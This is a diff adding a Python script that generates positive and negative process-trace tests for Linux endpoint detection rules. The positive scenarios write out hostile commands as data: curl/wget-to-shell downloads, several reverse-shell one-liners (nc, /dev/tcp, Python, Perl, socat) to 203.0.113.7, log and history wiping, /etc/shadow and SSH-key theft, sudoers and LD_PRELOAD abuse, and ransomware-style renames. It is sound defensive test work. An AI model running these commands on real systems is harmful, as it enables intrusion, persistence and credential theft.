@@ -1,0 +1,776 @@
+#!/usr/bin/env python3
+"""Writes the positive and negative test trace of every rule in the pack.
+
+    python3 policies/tools/make_rule_tests.py      # rewrites policies/tests/**
+
+Each rule gets a scenario: the attack as it unfolds (positive) and the benign
+look-alike closest to it (negative), both with the surrounding lineage (an
+sshd or Terminal session, a shell, forks and execs) so relations resolve the
+way they would on a live machine.
+"""
+
+from __future__ import annotations
+
+import sys
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parent))
+from bmtrace import Trace, linux_login_shell, macos_terminal_shell  # noqa: E402
+
+OUT = Path(__file__).resolve().parent.parent / "tests"
+SCENARIOS: dict[str, callable] = {}
+
+
+def scenario(os: str, name: str):
+    def deco(fn):
+        SCENARIOS[f"{os}/{name}"] = (os, fn)
+        return fn
+    return deco
+
+
+def lt(**kw) -> Trace:
+    return Trace("linux", **kw)
+
+
+def mt(**kw) -> Trace:
+    return Trace("macos", **kw)
+
+
+APPLE = {"platform_binary": True}
+
+
+def asig(name: str) -> dict:
+    return {"signing_id": f"com.apple.{name}", "platform_binary": True}
+
+
+# ============================================================ Linux ==========
+
+SHELLS = {"sh": "/usr/bin/sh", "bash": "/usr/bin/bash", "dash": "/usr/bin/dash"}
+
+
+def pipeline(t: Trace, sh, left: tuple, right: tuple, left_first: bool = True):
+    """`left | right` run by an interactive shell: two forked siblings on one pipe."""
+    if left_first:
+        a = t.spawn(sh, left[0], left[1], stdin="tty", stdout="pipe")
+        b = t.spawn(sh, right[0], right[1], stdin="pipe", stdout="tty")
+    else:
+        b = t.spawn(sh, right[0], right[1], stdin="pipe", stdout="tty")
+        a = t.spawn(sh, left[0], left[1], stdin="tty", stdout="pipe")
+    return a, b
+
+
+@scenario("linux", "fetch_pipe_shell")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t)
+    url = "http://203.0.113.7/i.sh"
+    if pos:
+        c, s = pipeline(t, sh, ("/usr/bin/curl", ["curl", "-fsSL", url]), ("/usr/bin/sh", ["sh"]))
+        t.tick(800)
+        t.spawn(s, "/usr/bin/uname", ["uname", "-m"], stdout="pipe")
+    else:
+        # curl into jq, then a script run from a file with the tty as stdin
+        c, j = pipeline(t, sh, ("/usr/bin/curl", ["curl", "-s", "https://api.github.com/repos/x/y"]),
+                        ("/usr/bin/jq", ["jq", ".stargazers_count"]))
+        t.exit(c)
+        t.exit(j)
+        t.tick(2000)
+        t.spawn(sh, "/usr/bin/sh", ["sh", "./configure"], stdin="tty", stdout="tty")
+    return t
+
+
+@scenario("linux", "fetch_pipe_shell_b")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t)
+    if pos:
+        pipeline(t, sh, ("/usr/bin/wget", ["wget", "-qO-", "http://198.51.100.9/x"]),
+                 ("/usr/bin/bash", ["bash"]), left_first=False)
+    else:
+        # cat a local script into bash (shell on a pipe, no downloader beside it)
+        pipeline(t, sh, ("/usr/bin/cat", ["cat", "setup.sh"]), ("/usr/bin/bash", ["bash"]),
+                 left_first=False)
+        t.tick(30)
+        t.spawn(sh, "/usr/bin/wget", ["wget", "-q", "https://example.org/file.tar.gz"],
+                stdout="tty")
+    return t
+
+
+def drop_exec(t: Trace, sh, path: str, sibling: bool):
+    w = t.spawn(sh, "/usr/bin/wget", ["wget", "-q", "-O", path, "http://203.0.113.7/bot"])
+    t.write(w, path, create=True)
+    t.exit(w)
+    t.tick(400)
+    c = t.spawn(sh, "/usr/bin/chmod", ["chmod", "+x", path])
+    t.exit(c)
+    if sibling:
+        t.spawn(sh, path, [path])
+
+
+@scenario("linux", "drop_exec_temp")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t)
+    if pos:
+        drop_exec(t, sh, "/tmp/bot", True)
+    else:
+        # the same download into the home folder, run from there
+        drop_exec(t, sh, "/home/alice/bin/tool", True)
+    return t
+
+
+@scenario("linux", "drop_exec_temp_b")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t)
+    py = t.spawn(sh, "/usr/bin/python3", ["python3", "fetch.py"], cwd="/home/alice")
+    if pos:
+        t.write(py, "/dev/shm/kdev", create=True)
+        t.tick(50)
+        t.spawn(py, "/dev/shm/kdev", ["/dev/shm/kdev", "-d"], stdin="null", stdout="null")
+    else:
+        # writes a temp file, then runs a system binary on it
+        t.write(py, "/tmp/tmpa8x2k1.json", create=True)
+        t.spawn(py, "/usr/bin/jq", ["jq", ".", "/tmp/tmpa8x2k1.json"], stdout="pipe")
+    return t
+
+
+@scenario("linux", "reverse_shell_socket")
+def _(pos: bool):
+    t = lt()
+    if pos:
+        web = t.root("/usr/sbin/apache2", ["/usr/sbin/apache2", "-k", "start"], uid=33,
+                     parent_exe="/usr/sbin/apache2", ppid=900)
+        php = t.spawn(web, "/usr/bin/sh", ["sh", "-c", "nc 203.0.113.7 4444 -e /bin/sh"],
+                      stdin="null", stdout="pipe")
+        nc = t.fork(php)
+        t.exec(nc, "/usr/bin/nc.traditional", ["nc", "203.0.113.7", "4444", "-e", "/bin/sh"])
+        t.tick(120)
+        t.exec(nc, "/usr/bin/sh", ["/bin/sh"], stdin="socket", stdout="socket")
+        t.spawn(nc, "/usr/bin/id", ["id"], stdin="socket", stdout="socket")
+    else:
+        # sshd runs a non-interactive command whose streams are sockets
+        sshd = t.root("/usr/sbin/sshd", ["sshd: deploy [priv]"], parent_exe="/usr/sbin/sshd",
+                      ppid=812)
+        t.spawn(sshd, "/usr/bin/bash", ["bash", "-c", "uptime"], uid=1001, stdin="socket",
+                stdout="socket")
+        sh = linux_login_shell(t)
+        t.spawn(sh, "/usr/bin/bash", ["bash"], stdin="tty", stdout="tty")
+    return t
+
+
+@scenario("linux", "dev_tcp_redirect")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "www-data", 33)
+    if pos:
+        t.spawn(sh, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"])
+    else:
+        t.spawn(sh, "/usr/bin/grep", ["grep", "-rn", "/dev/tcp/", "/etc/"], stdout="pipe")
+        t.spawn(sh, "/usr/bin/cat", ["cat", "/proc/net/tcp"])
+    return t
+
+
+@scenario("linux", "python_pty_spawn")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "www-data", 33)
+    if pos:
+        t.spawn(sh, "/usr/bin/python3",
+                ["python3", "-c", "import pty; pty.spawn('/bin/bash')"])
+        t.spawn(sh, "/usr/bin/python3",
+                ["python3", "-c", "import socket,subprocess,os;s=socket.socket();"
+                 "s.connect(('203.0.113.7',4444));os.dup2(s.fileno(),0);"
+                 "os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])"])
+    else:
+        t.spawn(sh, "/usr/bin/python3",
+                ["python3", "-c", "import socket; print(socket.gethostname())"])
+        t.spawn(sh, "/usr/bin/python3", ["python3", "-m", "http.server", "8000"])
+    return t
+
+
+@scenario("linux", "script_socket_shell")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "www-data", 33)
+    if pos:
+        t.spawn(sh, "/usr/bin/perl", [
+            "perl", "-e",
+            "use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,"
+            "getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){"
+            "open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};"])
+    else:
+        t.spawn(sh, "/usr/bin/perl", ["perl", "-e", "use Socket; print inet_ntoa(inet_aton('localhost'))"])
+        t.spawn(sh, "/usr/bin/perl", ["perl", "-e", "exec('/bin/ls', '-l')"])
+    return t
+
+
+@scenario("linux", "netcat_exec")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t)
+    if pos:
+        t.spawn(sh, "/usr/bin/ncat", ["ncat", "203.0.113.7", "4444", "--exec", "/bin/bash"])
+        t.spawn(sh, "/usr/bin/nc.traditional", ["nc", "-lvnp", "9001", "-e", "/bin/sh"])
+    else:
+        t.spawn(sh, "/usr/bin/nc.openbsd", ["nc", "-zv", "db.internal", "5432"])
+        t.spawn(sh, "/usr/bin/nc.openbsd", ["nc", "-l", "8080"], stdout="file")
+        t.spawn(sh, "/usr/bin/busybox", ["busybox", "sed", "-e", "s/a/b/", "f.txt"])
+    return t
+
+
+@scenario("linux", "socat_exec")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t)
+    if pos:
+        t.spawn(sh, "/usr/bin/socat", ["socat", "TCP:203.0.113.7:4444", "EXEC:/bin/bash,pty,stderr,setsid"])
+    else:
+        t.spawn(sh, "/usr/bin/socat", ["socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80"])
+        t.spawn(sh, "/usr/bin/socat", ["socat", "-", "EXEC:./local-test.sh"])
+    return t
+
+
+@scenario("linux", "decode_pipe_shell")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t)
+    if pos:
+        # echo is a builtin: bash forks a subshell for it, then base64 and bash
+        t.fork(sh, stdout="pipe")
+        pipeline(t, sh, ("/usr/bin/base64", ["base64", "-d"]), ("/usr/bin/bash", ["bash"]))
+    else:
+        t.fork(sh, stdout="pipe")
+        pipeline(t, sh, ("/usr/bin/base64", ["base64", "--decode"]), ("/usr/bin/jq", ["jq", "."]))
+        t.spawn(sh, "/usr/bin/base64", ["base64", "-d", "cert.b64"], stdout="file")
+    return t
+
+
+@scenario("linux", "script_decode_exec")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t)
+    if pos:
+        t.spawn(sh, "/usr/bin/python3", [
+            "python3", "-c",
+            "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))"])
+    else:
+        t.spawn(sh, "/usr/bin/python3", [
+            "python3", "-c", "import base64,sys;print(base64.b64decode(sys.argv[1]))", "aGk="])
+    return t
+
+
+# -- persistence --------------------------------------------------------------
+
+@scenario("linux", "cron_file_write")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "root", 0)
+    if pos:
+        py = t.spawn(sh, "/usr/bin/python3", ["python3", "/tmp/.s/inst.py"])
+        t.write(py, "/etc/cron.d/sys-update", create=True)
+    else:
+        # apt installs a package that ships a cron.d file
+        apt = t.spawn(sh, "/usr/bin/apt-get", ["apt-get", "install", "-y", "sysstat"])
+        dpkg = t.spawn(apt, "/usr/bin/dpkg", ["/usr/bin/dpkg", "--status-fd", "35", "--unpack",
+                                              "/var/cache/apt/archives/sysstat_12.6.1-1_amd64.deb"])
+        t.write(dpkg, "/etc/cron.d/sysstat.dpkg-new", create=True)
+        t.rename(dpkg, "/etc/cron.d/sysstat.dpkg-new", "/etc/cron.d/sysstat")
+        t.open(sh, "/etc/crontab")
+    return t
+
+
+@scenario("linux", "crontab_from_pipe")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t)
+    if pos:
+        sub = t.fork(sh, stdout="pipe")
+        t.spawn(sub, "/usr/bin/crontab", ["crontab", "-l"], stdout="pipe")
+        t.spawn(sh, "/usr/bin/crontab", ["crontab", "-"], stdin="pipe")
+    else:
+        t.spawn(sh, "/usr/bin/crontab", ["crontab", "-l"], stdout="pipe")
+        t.spawn(sh, "/usr/bin/crontab", ["crontab", "-e"])
+    return t
+
+
+@scenario("linux", "systemd_unit_write")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t)
+    if pos:
+        tee = t.spawn(sh, "/usr/bin/tee", ["tee", "/home/alice/.config/systemd/user/dbus-helper.service"],
+                      stdin="pipe")
+        t.write(tee, "/home/alice/.config/systemd/user/dbus-helper.service", create=True)
+        t.spawn(sh, "/usr/bin/systemctl", ["systemctl", "--user", "enable", "--now", "dbus-helper"])
+    else:
+        root = linux_login_shell(t, "root", 0)
+        dpkg = t.spawn(root, "/usr/bin/dpkg", ["dpkg", "-i", "nginx_1.24.0-2_amd64.deb"])
+        t.write(dpkg, "/lib/systemd/system/nginx.service.dpkg-new", create=True)
+        t.rename(dpkg, "/lib/systemd/system/nginx.service.dpkg-new", "/lib/systemd/system/nginx.service")
+        post = t.spawn(dpkg, "/usr/bin/sh", ["/bin/sh", "/var/lib/dpkg/info/nginx.postinst", "configure"])
+        helper = t.spawn(post, "/usr/bin/perl", ["/usr/bin/perl", "/usr/bin/deb-systemd-helper", "enable", "nginx.service"])
+        t.file(helper, "create", "/etc/systemd/system/multi-user.target.wants/nginx.service")
+        t.spawn(sh, "/usr/bin/cat", ["cat", "/etc/systemd/system/multi-user.target.wants/nginx.service"])
+    return t
+
+
+@scenario("linux", "shell_rc_write")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t)
+    if pos:
+        py = t.spawn(sh, "/usr/bin/python3", ["python3", "/tmp/u.py"])
+        t.write(py, "/home/alice/.bashrc")
+    else:
+        vim = t.spawn(sh, "/usr/bin/vim.basic", ["vim", "/home/alice/.bashrc"])
+        t.write(vim, "/home/alice/.bashrc.swp", create=True)
+        t.rename(vim, "/home/alice/.bashrc", "/home/alice/.bashrc~")
+        t.write(vim, "/home/alice/.bashrc", create=True)
+        t.unlink(vim, "/home/alice/.bashrc~")
+        t.exit(vim)
+        t.file(sh, "close_modified", "/home/alice/.bashrc")  # echo 'alias ll=ls -l' >> ~/.bashrc
+    return t
+
+
+@scenario("linux", "authorized_keys_write")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "root", 0)
+    if pos:
+        c = t.spawn(sh, "/usr/bin/curl", ["curl", "-s", "http://203.0.113.7/k", "-o", "/root/.ssh/authorized_keys"])
+        t.write(c, "/root/.ssh/authorized_keys")
+    else:
+        v = t.spawn(sh, "/usr/bin/vim.basic", ["vim", "/root/.ssh/authorized_keys"])
+        t.write(v, "/root/.ssh/authorized_keys")
+        t.write(t.spawn(sh, "/usr/bin/ssh-keygen", ["ssh-keygen", "-t", "ed25519", "-f", "/root/.ssh/id_ed25519"]),
+                "/root/.ssh/id_ed25519.pub", create=True)
+    return t
+
+
+# -- defense evasion ----------------------------------------------------------
+
+@scenario("linux", "history_file_delete")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t)
+    if pos:
+        rm = t.spawn(sh, "/usr/bin/rm", ["rm", "-f", "/home/alice/.bash_history"])
+        t.unlink(rm, "/home/alice/.bash_history")
+    else:
+        t.spawn(sh, "/usr/bin/tail", ["tail", "/home/alice/.bash_history"])
+        t.file(sh, "close_modified", "/home/alice/.bash_history")  # bash saves history on exit
+        rm = t.spawn(sh, "/usr/bin/rm", ["rm", "/home/alice/.lesshst"])
+        t.unlink(rm, "/home/alice/.lesshst")
+    return t
+
+
+@scenario("linux", "history_tamper_cmd")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t)
+    if pos:
+        t.spawn(sh, "/usr/bin/ln", ["ln", "-sf", "/dev/null", "/home/alice/.bash_history"])
+    else:
+        t.spawn(sh, "/usr/bin/cp", ["cp", "/home/alice/.bash_history", "/home/alice/hist.bak"])
+        t.spawn(sh, "/usr/bin/ln", ["ln", "-s", "/dev/null", "/home/alice/out.log"])
+    return t
+
+
+@scenario("linux", "log_deletion")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "root", 0)
+    logs = ["/var/log/auth.log", "/var/log/syslog", "/var/log/wtmp", "/var/log/btmp", "/var/log/kern.log"]
+    if pos:
+        rm = t.spawn(sh, "/usr/bin/rm", ["rm", "-rf"] + logs)
+        for p in logs:
+            t.unlink(rm, p)
+    else:
+        # logrotate (from its systemd timer) compresses and drops old logs
+        lr = t.root("/usr/sbin/logrotate", ["/usr/sbin/logrotate", "/etc/logrotate.conf"],
+                    parent_exe="/usr/lib/systemd/systemd", ppid=1)
+        for i, p in enumerate(logs):
+            t.unlink(lr, p + ".4.gz")
+            gz = t.spawn(lr, "/usr/bin/gzip", ["/bin/gzip"], stdin="file", stdout="file")
+            t.write(gz, p + ".2.gz", create=True)
+            t.unlink(gz, p + ".2")
+        rm = t.spawn(sh, "/usr/bin/rm", ["rm", "/var/log/installer.old"])
+        t.unlink(rm, "/var/log/installer.old")
+    return t
+
+
+@scenario("linux", "log_wipe_cmd")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "root", 0)
+    if pos:
+        t.spawn(sh, "/usr/bin/shred", ["shred", "-zu", "/var/log/auth.log"])
+        t.spawn(sh, "/usr/bin/truncate", ["truncate", "-s", "0", "/var/log/wtmp"])
+    else:
+        t.spawn(sh, "/usr/bin/truncate", ["truncate", "-s", "1G", "/srv/disk.img"])
+        t.spawn(sh, "/usr/bin/tail", ["tail", "-f", "/var/log/syslog"])
+    return t
+
+
+@scenario("linux", "chattr_immutable")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "root", 0)
+    if pos:
+        t.spawn(sh, "/usr/bin/chattr", ["chattr", "+i", "/root/.ssh/authorized_keys"])
+    else:
+        t.spawn(sh, "/usr/bin/chattr", ["chattr", "-i", "/etc/resolv.conf"])
+        t.spawn(sh, "/usr/bin/lsattr", ["lsattr", "/etc/resolv.conf"])
+    return t
+
+
+@scenario("linux", "timestomp")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "root", 0)
+    if pos:
+        t.spawn(sh, "/usr/bin/touch", ["touch", "-r", "/bin/ls", "/usr/local/bin/.updater"])
+    else:
+        t.spawn(sh, "/usr/bin/touch", ["touch", "/var/run/app.ready"])
+        mk = t.spawn(sh, "/usr/bin/make", ["make"], cwd="/home/alice/src/app")
+        msh = t.spawn(mk, "/usr/bin/sh", ["/bin/sh", "-c", "touch -r configure.ac /usr/src/app/stamp-h1"])
+        t.spawn(msh, "/usr/bin/touch", ["touch", "-r", "configure.ac", "/usr/src/app/stamp-h1"])
+    return t
+
+
+@scenario("linux", "kernel_thread_masquerade")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "root", 0)
+    if pos:
+        t.spawn(sh, "/tmp/.x/kworkerds", ["[kworker/0:2]"])
+    else:
+        t.spawn(sh, "/usr/bin/ps", ["ps", "-ef"], stdout="pipe")
+        t.spawn(sh, "/usr/bin/grep", ["grep", "kworker"], stdin="pipe")
+    return t
+
+
+@scenario("linux", "daemon_name_masquerade")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "root", 0)
+    if pos:
+        t.spawn(sh, "/var/tmp/sshd", ["/var/tmp/sshd", "-D"])
+    else:
+        t.spawn(sh, "/usr/sbin/sshd", ["/usr/sbin/sshd", "-t"])
+        t.spawn(sh, "/usr/lib/systemd/systemd-resolved", ["/lib/systemd/systemd-resolved"])
+    return t
+
+
+@scenario("linux", "shell_copied_as_daemon")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "root", 0)
+    if pos:
+        cp = t.spawn(sh, "/usr/bin/cp", ["cp", "/bin/bash", "/dev/shm/rsyslogd"])
+        t.write(cp, "/dev/shm/rsyslogd", create=True)
+        t.exit(cp)
+        t.spawn(sh, "/dev/shm/rsyslogd", ["/dev/shm/rsyslogd", "-p"])
+    else:
+        cp = t.spawn(sh, "/usr/bin/cp", ["cp", "/bin/bash", "/srv/chroot/bin/bash"])
+        t.write(cp, "/srv/chroot/bin/bash", create=True)
+        cp2 = t.spawn(sh, "/usr/bin/cp", ["cp", "/usr/bin/htop", "/opt/tools/htop"])
+        t.write(cp2, "/opt/tools/htop", create=True)
+        t.spawn(sh, "/opt/tools/htop", ["/opt/tools/htop"])
+    return t
+
+
+@scenario("linux", "hidden_dir_exec")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t)
+    if pos:
+        t.spawn(sh, "/home/alice/.cache/.sys/xmrig", ["/home/alice/.cache/.sys/xmrig", "-o", "pool:3333"])
+    else:
+        t.spawn(sh, "/home/alice/.local/bin/poetry", ["poetry", "install"])
+        t.spawn(sh, "/tmp/.mount_NvimQx/AppRun", ["/tmp/.mount_NvimQx/AppRun"])
+    return t
+
+
+# -- credential access --------------------------------------------------------
+
+@scenario("linux", "shadow_read")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "root", 0)
+    if pos:
+        py = t.spawn(sh, "/usr/bin/python3", ["python3", "/tmp/lz.py"])
+        t.open(py, "/etc/shadow")
+    else:
+        pw = t.spawn(sh, "/usr/bin/passwd", ["passwd", "alice"])
+        t.open(pw, "/etc/shadow")
+        t.write(pw, "/etc/nshadow", create=True)
+        su = t.spawn(sh, "/usr/bin/sudo", ["sudo", "-l"])
+        t.open(su, "/etc/shadow")
+    return t
+
+
+@scenario("linux", "shadow_dump_cmd")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "root", 0)
+    if pos:
+        t.spawn(sh, "/usr/bin/cat", ["cat", "/etc/shadow"])
+    else:
+        t.spawn(sh, "/usr/bin/cat", ["cat", "/etc/passwd"])
+        t.spawn(sh, "/usr/bin/ls", ["ls", "-l", "/etc/shadow"])
+    return t
+
+
+@scenario("linux", "ssh_key_hunt")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t)
+    if pos:
+        t.spawn(sh, "/usr/bin/find", ["find", "/", "-name", "id_rsa", "-o", "-name", "id_ed25519"])
+    else:
+        t.spawn(sh, "/usr/bin/find", ["find", ".", "-name", "*.c"])
+        t.spawn(sh, "/usr/bin/grep", ["grep", "-rn", "TODO", "src/"])
+    return t
+
+
+@scenario("linux", "ssh_key_collect")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "root", 0)
+    keys = ["/root/.ssh/id_rsa", "/home/alice/.ssh/id_ed25519", "/home/bob/.ssh/id_rsa"]
+    if pos:
+        tar = t.spawn(sh, "/usr/bin/tar", ["tar", "czf", "/tmp/k.tgz"] + keys)
+        for k in keys:
+            t.open(tar, k)
+    else:
+        ssh = t.spawn(sh, "/usr/bin/ssh", ["ssh", "git@github.com"])
+        for k in ["/root/.ssh/id_rsa", "/root/.ssh/id_ecdsa", "/root/.ssh/id_ed25519"]:
+            t.open(ssh, k)
+        cat = t.spawn(sh, "/usr/bin/cat", ["cat", "/root/.ssh/id_rsa.pub"])
+        t.open(cat, "/root/.ssh/id_rsa.pub")
+    return t
+
+
+@scenario("linux", "browser_credential_access")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t)
+    prof = "/home/alice/.config/google-chrome/Default"
+    if pos:
+        py = t.spawn(sh, "/usr/bin/python3", ["python3", "/tmp/.c/grab.py"])
+        t.open(py, prof + "/Login Data")
+        t.open(py, "/home/alice/.mozilla/firefox/x1y2z3.default-release/logins.json")
+    else:
+        ch = t.spawn(sh, "/opt/google/chrome/chrome", ["/opt/google/chrome/chrome"])
+        t.open(ch, prof + "/Login Data")
+        t.open(ch, prof + "/Network/Cookies")
+        ls = t.spawn(sh, "/usr/bin/ls", ["ls", prof])
+        t.open(ls, prof + "/Preferences")
+    return t
+
+
+# -- discovery ----------------------------------------------------------------
+
+RECON = [("whoami", ["whoami"]), ("id", ["id"]), ("uname", ["uname", "-a"]),
+         ("hostname", ["hostname"]), ("ip", ["ip", "a"]), ("ss", ["ss", "-tulpn"]),
+         ("ps", ["ps", "aux"]), ("cat", ["cat", "/etc/passwd"])]
+
+
+@scenario("linux", "discovery_burst")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "www-data", 33)
+    if pos:
+        s = t.spawn(sh, "/usr/bin/sh", ["sh", "/tmp/r.sh"])
+        for name, args in RECON:
+            c = t.spawn(s, f"/usr/bin/{name}", args, stdout="pipe")
+            t.exit(c)
+            t.tick(150)
+    else:
+        # an admin glances at the box over several minutes
+        for name, args in RECON[:5]:
+            c = t.spawn(sh, f"/usr/bin/{name}", args)
+            t.exit(c)
+            t.tick(20_000)
+        for name, args in RECON[5:]:
+            c = t.spawn(sh, f"/usr/bin/{name}", args)
+            t.exit(c)
+    return t
+
+
+# -- privilege escalation -----------------------------------------------------
+
+@scenario("linux", "setuid_chmod")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "root", 0)
+    if pos:
+        t.spawn(sh, "/usr/bin/chmod", ["chmod", "u+s", "/usr/local/bin/helper"])
+    else:
+        t.spawn(sh, "/usr/bin/chmod", ["chmod", "755", "/usr/local/bin/helper"])
+        t.spawn(sh, "/usr/bin/chmod", ["chmod", "u+x,g-w", "/usr/local/bin/helper"])
+        t.spawn(sh, "/usr/bin/chmod", ["chmod", "0644", "/etc/app.conf"])
+    return t
+
+
+@scenario("linux", "setuid_temp_exec")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "root", 0)
+    if pos:
+        cp = t.spawn(sh, "/usr/bin/cp", ["cp", "/bin/bash", "/tmp/.b"])
+        t.write(cp, "/tmp/.b", create=True)
+        t.spawn(sh, "/usr/bin/chmod", ["chmod", "4755", "/tmp/.b"])
+    else:
+        t.spawn(sh, "/usr/bin/chmod", ["chmod", "1777", "/tmp/shared"])
+        t.spawn(sh, "/usr/bin/chmod", ["chmod", "+x", "/tmp/run.sh"])
+    return t
+
+
+@scenario("linux", "sudoers_write")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "root", 0)
+    if pos:
+        tee = t.spawn(sh, "/usr/bin/tee", ["tee", "-a", "/etc/sudoers"], stdin="pipe")
+        t.write(tee, "/etc/sudoers")
+    else:
+        vs = t.spawn(sh, "/usr/sbin/visudo", ["visudo", "-f", "/etc/sudoers.d/ops"])
+        ed = t.spawn(vs, "/usr/bin/vim.basic", ["vim", "/etc/sudoers.d/ops.tmp"])
+        t.write(ed, "/etc/sudoers.d/ops.tmp", create=True)
+        t.exit(ed)
+        t.rename(vs, "/etc/sudoers.d/ops.tmp", "/etc/sudoers.d/ops")
+    return t
+
+
+@scenario("linux", "ld_preload_file")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "root", 0)
+    if pos:
+        sub = t.fork(sh, stdout="file")  # echo /usr/lib/x.so > /etc/ld.so.preload
+        t.write(sub, "/etc/ld.so.preload", create=True)
+    else:
+        t.spawn(sh, "/usr/bin/cat", ["cat", "/etc/ld.so.preload"])
+        ld = t.spawn(sh, "/usr/sbin/ldconfig", ["ldconfig"])
+        t.write(ld, "/etc/ld.so.cache~", create=True)
+        t.rename(ld, "/etc/ld.so.cache~", "/etc/ld.so.cache")
+    return t
+
+
+@scenario("linux", "ld_preload_env")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t)
+    if pos:
+        t.spawn(sh, "/usr/bin/env", ["env", "LD_PRELOAD=/dev/shm/libhook.so", "/usr/bin/sudo", "-l"])
+    else:
+        t.spawn(sh, "/usr/bin/env", ["env", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", "redis-server"])
+    return t
+
+
+# -- impact -------------------------------------------------------------------
+
+@scenario("linux", "rename_storm")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t)
+    files = [f"/home/alice/Documents/report-{i:03d}.docx" for i in range(60)]
+    if pos:
+        w = t.spawn(sh, "/home/alice/Downloads/invoice", ["./invoice"], cwd="/home/alice/Downloads")
+        for f in files:
+            t.open(w, f)
+            t.write(w, f)
+            t.rename(w, f, f + ".x7k2")
+            t.tick(40)
+    else:
+        # rsync-style writes of temp files renamed into place, and git objects
+        rs = t.spawn(sh, "/usr/bin/rsync", ["rsync", "-a", "backup:/docs/", "/home/alice/Documents/"])
+        for f in files:
+            d, b = f.rsplit("/", 1)
+            tmp = f"{d}/.{b}.Gx81Qa"
+            t.write(rs, tmp, create=True)
+            t.rename(rs, tmp, f)
+        py = t.spawn(sh, "/usr/bin/python3", ["python3", "organize.py"])
+        for f in files[:20]:
+            t.rename(py, f, f.replace("Documents", "Archive"))
+    return t
+
+
+@scenario("linux", "ransom_extension_rename")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t)
+    files = [f"/home/alice/Pictures/IMG_{i:04d}.jpg" for i in range(12)]
+    if pos:
+        w = t.spawn(sh, "/tmp/locker", ["/tmp/locker"])
+        for f in files:
+            t.write(w, f)
+            t.rename(w, f, f + ".locked")
+    else:
+        # photo tool renames into dated names; one archive gets an .enc-free name
+        py = t.spawn(sh, "/usr/bin/python3", ["python3", "rename_photos.py"])
+        for i, f in enumerate(files):
+            t.rename(py, f, f"/home/alice/Pictures/2026-11-{i + 1:02d}.jpg")
+        gpg = t.spawn(sh, "/usr/bin/gpg", ["gpg", "-c", "/home/alice/secrets.txt"])
+        t.write(gpg, "/home/alice/secrets.txt.gpg", create=True)
+    return t
+
+
+# -- demonstration ------------------------------------------------------------
+
+M1 = "/tmp/bm_change_file_test_1.txt"
+M2 = "/tmp/bm_change_file_test_2.txt"
+
+
+def demo_trace(t: Trace, parent, pos: bool, shell: str):
+    if pos:
+        # bm demo: sh -c 'echo x >> M1; echo x >> M2' — the shell does the writes
+        s = t.spawn(parent, shell, ["sh", "-c", f"echo x >> {M1}; echo x >> {M2}"])
+        t.open(s, M1)
+        t.file(s, "close_modified", M1)
+        t.tick(5)
+        t.open(s, M2)
+        t.file(s, "close_modified", M2)
+    else:
+        # two different shells each append to one marker; a reader looks at both
+        s1 = t.spawn(parent, shell, ["sh", "-c", f"echo x >> {M1}"])
+        t.file(s1, "close_modified", M1)
+        t.exit(s1)
+        s2 = t.spawn(parent, shell, ["sh", "-c", f"echo x >> {M2}"])
+        t.file(s2, "close_modified", M2)
+        t.exit(s2)
+        cat = t.spawn(parent, "/bin/cat" if t.os == "macos" else "/usr/bin/cat", ["cat", M1, M2])
+        t.open(cat, M1)
+        t.open(cat, M2)
+
+
+@scenario("linux", "bm_change_file_test")
+def _(pos: bool):
+    t = lt()
+    sh = linux_login_shell(t, "root", 0)
+    demo_trace(t, sh, pos, "/usr/bin/dash")
+    return t
+
+
+# ============================================================ main ===========
+
